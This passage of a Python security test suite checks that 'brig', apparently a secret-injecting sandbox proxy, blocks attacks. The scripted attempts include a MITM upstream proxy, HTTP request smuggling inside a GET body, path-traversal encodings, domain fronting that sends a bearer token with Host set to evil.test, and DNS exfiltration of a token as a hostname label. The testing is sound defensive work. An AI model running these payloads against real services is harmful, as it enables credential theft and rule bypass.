s.bind(("0.0.0.0", port))
s.listen(16)
print("READY", flush=True)
while True:
    threading.Thread(target=serve, args=(s.accept()[0],), daemon=True).start()
'''


@attack("secret-through-upstream-proxy", "through --upstream-proxy: a CONNECT proxy that tunnels (the value must "
        "reach the real host over TLS the proxy cannot read), and one that answers 200 and then terminates TLS "
        "itself with another certificate (signed by a CA brig trusts, for another name) to read the request",
        "the TLS to the upstream runs inside the proxy's tunnel, verified for the bound name; a peer that is "
        "not the bound host fails verification: 502, nothing sent")
def test_an_upstream_proxy_never_sees_the_value(ws, up):
    brig = ws
    plog = up.tmp / f"proxy-{secrets.token_hex(3)}.log"
    plog.touch()
    procs = []
    try:
        for port, mode in ((3129, "tunnel"), (3130, "mitm")):
            (up.tmp / "proxy.py").write_text(PROXY)
            p = subprocess.Popen(["ip", "netns", "exec", up.name, PY, str(up.tmp / "proxy.py"), str(port), mode,
                                  str(plog), str(up.tmp), up.value], stdout=subprocess.PIPE, text=True)
            procs.append(p)
            assert p.stdout.readline().strip() == "READY"
        script = ("curl -sS -i -H \"Authorization: Bearer $API_TOKEN\" https://api.test/whoami"
                  " | grep -i -e '^HTTP/' -e '^x-brig-deny' -e '^hi'")
        out = {}
        for port, mode in ((3129, "tunnel"), (3130, "mitm")):
            mark = up.mark()
            r, ev, path = audited(brig, script, *up.args("--upstream-proxy", f"http://{up.addr}:{port}"))
            out[mode] = (r, ev, up.seen(mark))
            assert_never_leaked(up, r, path)
        r, ev, seen = out["tunnel"]
        # through the tunnel: brig's TLS to the real host, verified; the value reached it, and only it
        assert "HTTP/1.1 200 OK" in r.stdout and "hi" in r.stdout, r
        assert [q["headers"].get("Authorization") for q in seen] == [f"Bearer {up.value}"], seen
        assert any(e.get("protocol") == "https-intercepted" and e.get("decision") == "allow" for e in ev), ev
        r, ev, seen = out["mitm"]
        # the proxy that plays the host: refused before a byte of the request
        assert "HTTP/1.1 502" in r.stdout and "the upstream's certificate is not valid for api.test" in r.stdout, r
        assert seen == [], seen
        tls = [e for e in ev if e.get("phase") == "tls" and e["decision"] == "deny"]
        assert tls and "not valid for api.test" in tls[0]["reason"], ev
    finally:
        for p in procs:
            p.kill()
            p.wait()
    text = plog.read_text()
    assert "tunnel CONNECT api.test:443 HTTP/1.1" in text and "mitm CONNECT api.test:443 HTTP/1.1" in text, text
    assert "the value in the clear" not in text and up.value not in text, f"ATTACK WORKED: the proxy read it: {text}"
    assert "mitm read" not in text, f"ATTACK WORKED: the terminating proxy read a request: {text}"


@attack("secret-websocket-upgrade", "a WebSocket upgrade to the bound host with the placeholder in Authorization "
        "(its frames would be relayed unjudged), and a server that answers 101 to a request that did not ask for "
        "it properly, then sends a frame echoing the value", "upgrades to an intercepted host are refused (501, "
        "X-Brig-Deny, a request deny event) before anything goes upstream; after a 101 brig relays nothing more")
def test_websocket_to_an_intercepted_host_is_refused(ws, up):
    brig = ws
    mark = up.mark()
    script = r'''
A="Authorization: Bearer $API_TOKEN"
curl -sS -i -H "$A" -H "Connection: Upgrade" -H "Upgrade: websocket" -H "Sec-WebSocket-Version: 13" \
     -H "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==" https://api.test/ws | grep -i -e '^HTTP/' -e '^x-brig-deny'
curl -sS -i -H "$A" -H "Upgrade: websocket" https://api.test/ws-lenient > /tmp/o; echo "lenient rc=$?"
echo "lenient got $(base64 -w0 /tmp/o)"
'''
    r, ev, path = audited(brig, script, *up.args())
    assert "HTTP/1.1 501 Not Implemented" in r.stdout and "protocol upgrades (WebSocket, h2c) are not relayed" in r.stdout, r
    got = up.seen(mark)
    # the refused upgrade never reached the host; the lenient one did, and its frame never came back
    assert [q["path"] for q in got] == ["/ws-lenient"], got
    assert got[0]["headers"]["Authorization"] == f"Bearer {up.value}", got
    lenient = base64.b64decode(next(l for l in r.stdout.splitlines() if l.startswith("lenient got ")).split()[2])
    assert lenient.split(b"\r\n\r\n")[1].startswith(b"HTTP/1.1 101") and lenient.endswith(b"\r\n\r\n"), lenient  # its head, no frame
    assert up.value.encode() not in lenient, f"ATTACK WORKED: the frame reached the sandbox: {lenient}"
    denied = [e for e in ev if e.get("phase") == "request" and e["decision"] == "deny"]
    assert len(denied) == 1 and "upgrades" in denied[0]["reason"], ev
    assert_never_leaked(up, r, path)


def test_git_clone_over_https_with_a_scoped_token(ws, up):
    """git sends the token as Basic auth (base64): brig decodes, swaps,
    encodes; the server checks the real token."""
    brig = ws
    mark = up.mark()
    r, ev, path = audited(brig, 'GIT_TERMINAL_PROMPT=0 git clone -q "https://x-access-token:$API_TOKEN@api.test/repo.git" '
                          '/tmp/c && cat /tmp/c/README /tmp/c/.git/config', *up.args())
    assert "cloned with a scoped token\n" in r.stdout and "x-access-token:brig-secret-API_TOKEN-" in r.stdout, r
    auth = [q["headers"].get("Authorization") for q in up.seen(mark)]
    good = "Basic " + base64.b64encode(b"x-access-token:" + up.value.encode()).decode()
    assert good in auth, auth
    assert_never_leaked(up, r, path)


@attack("http-rule-evasion", "reach a refused method or path through %2e%2e, //, ;, %2f, case, ../, a pipelined "
        "request after an allowed one, a Host header naming another host inside the TLS connection",
        "paths normalised or refused when ambiguous (httprules.c); each request on a connection judged; the Host "
        "must name the connection's host")
def test_http_rules_judge_every_request(ws, up):
    """Methods and paths, normalisation tricks, keep-alive and pipelining:
    each request judged; the upstream receives only the allowed ones."""
    brig = ws
    mark = up.mark()
    script = r'''
for p in /v1/messages /v1/models/a /v1/files/a/b /v1/files//x /v1/models/a/b /v1/%2e%2e/admin /v1//messages "/v1/messages;x" /v1%2fmessages /V1/messages /v1/models/../../admin /v1/m%65ssages; do
  printf '%s ' "$p"; curl -sS -o /dev/null -w '%{http_code}\n' --path-as-is -X POST "https://api.test$p"
done
curl -sS -o /dev/null -w 'GET %{http_code}\n' https://api.test/v1/messages
python3 - <<'EOF'
import re, socket, ssl
def tunnel():
    """TLS to api.test through a CONNECT of our own."""
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(b"CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n")
    head = b""
    while b"\r\n\r\n" not in head:
        head += s.recv(1)
    return ssl.create_default_context().wrap_socket(s, server_hostname="api.test")
t = tunnel()
# pipelined: an allowed request, then a refused one, then one never read
t.sendall(b"POST /v1/messages HTTP/1.1\r\nHost: api.test\r\nContent-Length: 2\r\n\r\nhi"
          b"DELETE /v1/messages HTTP/1.1\r\nHost: api.test\r\n\r\n"
          b"POST /v1/messages HTTP/1.1\r\nHost: api.test\r\nContent-Length: 0\r\n\r\n")
out = b""
while True:
    d = t.recv(65536)
    if not d:
        break
    out += d
print("pipelined", re.findall(r"HTTP/1\.1 \d\d\d|X-Brig-Deny: [^\r]*", out.decode()))
# a Host naming another host inside api.test's TLS (domain fronting)
t = tunnel()
t.sendall(b"POST /v1/messages HTTP/1.1\r\nHost: other.test\r\nContent-Length: 0\r\n\r\n")
print("fronted", t.recv(4096).split(b"\r\n")[0].decode())
EOF
'''
    r, ev, path = audited(brig, script, *up.args("--http-rule", "api.test POST /v1/messages,/v1/models/*,/v1/files/**"))
    codes = dict(l.split(" ", 1) for l in r.stdout.splitlines() if l.startswith("/"))
    assert codes == {"/v1/messages": "200", "/v1/models/a": "200", "/v1/files/a/b": "200", "/v1/files//x": "403",
                     "/v1/models/a/b": "403",
                     "/v1/%2e%2e/admin": "403", "/v1//messages": "403", "/v1/messages;x": "403",
                     "/v1%2fmessages": "403", "/V1/messages": "403", "/v1/models/../../admin": "403",
                     "/v1/m%65ssages": "200"}, r
    assert "GET 403" in r.stdout, r
    assert "pipelined ['HTTP/1.1 200', 'HTTP/1.1 403', 'X-Brig-Deny: api.test; http_rules for api.test: DELETE " \
        "/v1/messages matches none of its 1 rule']" in r.stdout, r
    assert "fronted HTTP/1.1 403 Forbidden" in r.stdout, r
    got = [(q["method"], q["path"]) for q in up.seen(mark)]
    assert got == [("POST", "/v1/messages"), ("POST", "/v1/models/a"), ("POST", "/v1/files/a/b"), ("POST", "/v1/m%65ssages"),
                   ("POST", "/v1/messages")], got
    denied = [e for e in ev if e.get("phase") == "request" and e["decision"] == "deny"]
    assert any(e["method"] == "DELETE" and e["path"] == "/v1/messages" for e in denied), denied


@attack("http-rule-smuggled-in-a-get-body", "a GET the rules allow carries a body that is itself a request "
        "(DELETE /v1/admin): a server that never reads GET bodies takes it for the next request on the connection, "
        "one the rules never judged", "http-intercept")
def test_a_request_in_a_get_body_is_never_smuggled_past_the_rules(ws, up):
    brig = ws
    mark = up.mark()
    script = r'''
python3 - <<'EOF'
''' + TLS_TUNNEL + r'''
t = tls_tunnel()
inner = b"DELETE /v1/admin HTTP/1.1\r\nHost: api.test\r\nContent-Length: 0\r\n\r\n"
t.sendall(b"GET /v1/models/a HTTP/1.1\r\nHost: api.test\r\nContent-Length: %d\r\n\r\n" % len(inner) + inner)
out = b""
while True:
    d = t.recv(65536)
    if not d:
        break
    out += d
print("smuggle", out.split(b"\r\n")[0].decode())
EOF
'''
    r, ev, path = audited(brig, script, *up.args("--http-rule", "api.test GET,POST /v1/models/*"))
    assert "smuggle HTTP/1.1 403" in r.stdout, r
    got = [(q["method"], q["path"]) for q in up.seen(mark)]
    assert got == [], got  # neither the GET nor what its body held reached the upstream
    denied = [e for e in ev if e.get("phase") == "request" and e["decision"] == "deny"]
    assert any(e["method"] == "GET" for e in denied), denied


@attack("secret-host-fronting-absolute", "inside the bound host's verified TLS, an absolute-form target naming the "
        "bound host and a Host header naming another (domain fronting through a shared front end), with the "
        "placeholder; and the same with the port, case and a trailing dot", "http-intercept")
def test_absolute_form_never_fronts_another_host(ws, up):
    """RFC 9112 lets a server take the absolute-form target over Host, but a
    front end shared by many names may route by Host: the value must only
    ever leave with a Host that names the bound host."""
    brig = ws
    mark = up.mark()
    script = r'''
A="Authorization: Bearer $API_TOKEN"
for h in evil.test "api.test.evil.test" "API.test:443" "api.test." ; do
  printf '%s ' "$h"; curl -sS -o /dev/null -w '%{http_code}\n' -H "$A" -H "Host: $h" --request-target http://api.test/whoami https://api.test/
done
'''
    r, ev, path = audited(brig, script, *up.args())
    codes = dict(l.split(" ", 1) for l in r.stdout.splitlines() if " " in l)
    assert codes == {"evil.test": "403", "api.test.evil.test": "403", "API.test:443": "200", "api.test.": "200"}, r
    got = up.seen(mark)
    # on the host: the upstream never got the value under another Host
    for q in got:
        assert q["headers"].get("Host", "").lower().rstrip(".").split(":")[0] == "api.test", \
            f"ATTACK WORKED: the value went out with Host {q['headers'].get('Host')}: {q}"
    assert len(got) == 2 and all(q["headers"]["Authorization"] == f"Bearer {up.value}" for q in got), got
    denied = [e for e in ev if e.get("phase") == "request" and e["decision"] == "deny"]
    assert len(denied) == 2 and all("names host" in e["reason"] for e in denied), denied
    assert_never_leaked(up, r, path)


@attack("placeholder-exfiltration-filtered", "programs that ignore the proxy (Node's fetch, curl --noproxy) "
        "and a placeholder as a DNS label asked of the stub", "the SNI sniffer hands bound hosts to the interceptor "
        "with the ClientHello it read; the stub refuses a name holding a placeholder (NXDOMAIN, audited)")
def test_filtered_mode_hands_tls_to_the_interceptor(ws, up):
    """Programs that ignore the proxy settings (Node's fetch; curl told so):
    the SNI sniffer hands the connection over with the ClientHello it read.
    A placeholder in a DNS question is refused at the stub."""
    brig = ws
    mark = up.mark()
    script = r'''
node -e 'fetch("https://api.test/whoami", {headers: {Authorization: "Bearer " + process.env.API_TOKEN}}).then(r => r.text()).then(t => console.log("node", t.trim()), e => console.log("node failed", e.cause || e))'
curl --noproxy '*' -sS -H "Authorization: Bearer $API_TOKEN" https://api.test/whoami
python3 -c '
import os, socket
try:
    socket.getaddrinfo(os.environ["API_TOKEN"].lower().replace("_", "-") + ".api.test", 443)
    print("resolved")
except OSError as e:
    print("dns refused")
'
'''
    r, ev, path = audited(brig, script, *up.args(mode="filtered"))
    if "filtered mode is not available" in r.stderr:
        pytest.skip("FILTERED MODE UNAVAILABLE ON THIS HOST: " + r.stderr.strip()[-200:])
    assert "node hi\nhi\ndns refused\n" in r.stdout, r
    got = [q for q in up.seen(mark) if q["path"] == "/whoami"]
    assert len(got) == 2 and all(q["headers"]["Authorization"] == f"Bearer {up.value}" for q in got), got
    dns = [e for e in ev if e.get("event") == "dns" and "API_TOKEN" in e.get("reason", "")]
    assert dns and dns[0]["name"] == "{API_TOKEN}", ev
    assert_never_leaked(up, r, path)


def test_bad_secret_settings_are_refused_before_anything_runs(brig):
    """Bad input: a located error naming the flag, exit 125, no run."""
    tmp_path = brig.base   # 0755: the rootless brig reads it too
    tok = tmp_path / "tok"
    tok.write_text("tok-s3cr3t-xyz\n")
    tok.chmod(0o644)
    allow = ["--allow-host", "api.example.com"]
    cases = [
        (["--secret", "API_TOKEN=value"], "--secret: 'API_TOKEN=value': the value comes from @FILE"),
        (["--secret", "1X=@/etc/hostname"], "expected NAME=@FILE or NAME=env:VAR"),
        (["--secret", f"T=@{tok}", *allow], "--secret T: bound to no host; add --secret-host T=HOST"),
        (["--secret-host", "T=api.example.com"], "no secret T (give --secret T=@FILE before --secret-host)"),
        (["--secret", f"T=@{tok}", "--secret-host", "T=api.example.com:443"], "is not a host name"),
        (["--secret", "T=env:BRIG_TEST_UNSET_VAR", "--secret-host", "T=api.example.com", *allow],
         "--secret T: environment variable BRIG_TEST_UNSET_VAR is not set"),
        (["--secret", f"T=@{tmp_path}/missing", "--secret-host", "T=api.example.com", *allow],
         "--secret T: cannot read"),
        (["--secret", f"T=@{tok}", "--secret-host", "T=api.example.com"], "--secret: the network is off"),
        (["--secret", f"T=@{tok}", "--secret-host", "T=api.example.com", "--upstream-ca", str(tok), *allow],
         "--upstream-ca " + str(tok) + ": not a readable PEM file"),
        (["--http-rule", "api.example.com GET /a/../b"], "a dot segment"),
        (["--http-rule", "api.example.com get /"], "method 'get'"),
    ]
    for args, message in cases:
        r = brig.sh("echo RAN", *args)
        assert r.returncode == 125 and message in r.stderr and "RAN" not in r.stdout, (args, r)
    # the good twin, in words: brig policy explain
    r = brig.run("policy", "explain", "--secret", f"T=@{tok}", "--secret-host", "T=api.example.com",
                 "--http-rule", "api.example.com POST /v1/messages", *allow)
    assert r.returncode == 0, r
    assert f"secret T (read from @{tok} when the run starts): $T inside holds only a placeholder" in r.stdout, r
    assert "http rule for api.example.com: only POST to /v1/messages" in r.stdout, r
    assert "every other connection stays\n  end-to-end" in r.stdout and "tok-s3cr3t-xyz" not in r.stdout, r
